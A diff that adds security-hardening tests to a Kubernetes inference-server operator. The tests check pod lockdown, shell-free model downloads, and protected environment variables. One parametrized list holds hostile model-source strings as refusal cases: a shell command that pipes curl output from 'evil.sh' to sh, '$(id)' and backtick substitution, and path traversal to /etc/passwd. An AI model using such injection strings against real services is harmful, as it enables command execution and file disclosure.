@@ -153,3 +153,82 @@ def test_status_conditions():
     assert deg.status == "True" and deg.reason == "Unschedulable" and "Insufficient nvidia.com/gpu" in deg.message
     ready_since = next(c for c in st.conditions if c.type == "Ready").last_transition_time
     assert next(c for c in st2.conditions if c.type == "Ready").last_transition_time == ready_since
+
+
+# --- hardening (issue #11) -------------------------------------------------------------------------
+
+@pytest.mark.parametrize("source", [
+    'hf://org/repo/x";curl${IFS}evil.sh|sh;echo${IFS}"\'.gguf',  # the probe: a shell command in a model source
+    "pvc://claim/../../../etc/passwd", "pvc://claim/./x.gguf", "hf://org/repo/../x.gguf", "https://host/a/../b.gguf",
+    "https://host/x.gguf?a=$(id)", "hf://org/repo/x y.gguf", "https://host/`id`.gguf", "hf://org/repo/x%2f..%2fy.gguf",
+])
+def test_model_sources_with_shell_or_traversal_are_refused(source):
+    from pydantic import ValidationError
+
+    from kvpilot.server.model_source import InvalidModelSource, parse_model_source
+
+    with pytest.raises(InvalidModelSource):
+        parse_model_source(source)
+    with pytest.raises(ValidationError):
+        spec(model={"source": source})
+    with pytest.raises(ValidationError):
+        spec(engineSettings={"speculative": {"method": "draft", "draftModel": source}})
+
+
+def test_downloads_run_fetch_model_without_a_shell_as_non_root():
+    for src, path in (("hf://org/repo/dir/model.Q4_0.gguf", "model.Q4_0.gguf"), ("https://example.com/x/tiny.gguf", "tiny.gguf")):
+        dep = deployment("m", "ns", "u", spec(model={"source": src}))
+        pod = dep["spec"]["template"]["spec"]
+        (init,) = pod["initContainers"]
+        assert init["command"] == ["kvpilot", "fetch-model"] and init["args"][:2] == [src, f"/models/download/{path}"]
+        assert init["image"].startswith("kvpilot/engine") and "sh" not in init["command"]
+        assert init["securityContext"]["runAsNonRoot"] and not init["securityContext"]["allowPrivilegeEscalation"]
+        assert f"/models/download/{path}" in container(dep)["args"]
+    # vLLM fetches whole hub repos itself: no init container, the repo id as --model
+    dep = deployment("m", "ns", "u", spec(engine="vllm", model={"source": "hf://Qwen/Qwen3-0.6B"}))
+    assert "initContainers" not in dep["spec"]["template"]["spec"] and "Qwen/Qwen3-0.6B" in container(dep)["args"]
+
+
+def test_engine_pods_are_locked_down():
+    dep = deployment("m", "ns", "u", spec(apiKeySecretRef={"name": "engine-key", "key": "token"}, env=[{"name": "FOO", "value": "1"}]))
+    pod = dep["spec"]["template"]["spec"]
+    c = container(dep)
+    assert pod["automountServiceAccountToken"] is False
+    assert pod["securityContext"]["runAsNonRoot"] and pod["securityContext"]["runAsUser"] != 0
+    sc = c["securityContext"]
+    assert sc["readOnlyRootFilesystem"] and not sc["allowPrivilegeEscalation"] and sc["capabilities"] == {"drop": ["ALL"]}
+    env = {e["name"]: e for e in c["env"]}
+    assert env["XDG_CACHE_HOME"]["value"] == "/cache" and env["TRITON_CACHE_DIR"]["value"].startswith("/cache")
+    mounts = {m["mountPath"]: m["name"] for m in c["volumeMounts"]}
+    volumes = {v["name"]: v for v in pod["volumes"]}
+    assert "emptyDir" in volumes[mounts["/cache"]] and "emptyDir" in volumes[mounts["/tmp"]]
+    assert env["KVPILOT_API_KEY"]["valueFrom"] == {"secretKeyRef": {"name": "engine-key", "key": "token"}}
+    assert [e["name"] for e in c["env"]][-2:] == ["POD_IP", "KVPILOT_API_KEY"] and env["FOO"]["value"] == "1"
+
+
+@pytest.mark.parametrize("name", ["POD_IP", "KVPILOT_API_KEY", "XDG_CACHE_HOME"])
+def test_user_env_cannot_override_what_the_operator_sets(name):
+    from pydantic import ValidationError
+
+    with pytest.raises(ValidationError, match="set by the operator"):
+        spec(env=[{"name": name, "value": "10.0.0.1"}])
+
+
+def test_pod_monitor_relabels_to_the_labels_the_autoscaler_selects_on():
+    from kvpilot.operator.autoscaler.promql import signal_query
+    from kvpilot.operator.builders.manifests import pod_monitor
+
+    (endpoint,) = pod_monitor("a", "ns", "u", spec())["spec"]["podMetricsEndpoints"]
+    targets = {r["targetLabel"] for r in endpoint["relabelings"]}
+    query = signal_query("kvpilot", "kv", "ns", "a")
+    assert {"namespace", "inferenceservice", "pod"} <= targets and 'inferenceservice="a"' in query and "by (pod)" in query
+    label_source = next(r["sourceLabels"][0] for r in endpoint["relabelings"] if r["targetLabel"] == "inferenceservice")
+    assert label_source == "__meta_kubernetes_pod_label_serving_kvpilot_dev_inferenceservice"
+
+
+def test_invalid_engine_settings_are_a_problem_not_an_exception():
+    from kvpilot.operator.reconcile import parse_spec
+
+    body = {"metadata": {"name": "x"}, "spec": {"model": {"source": "smollm2-135m"}, "engineSettings": {"kvCacheMemory": "1"}}}
+    parsed, problems = parse_spec(body)
+    assert parsed is not None and problems and problems[0][0] == "InvalidEngineSettings" and "kv_cache_memory" in problems[0][1]
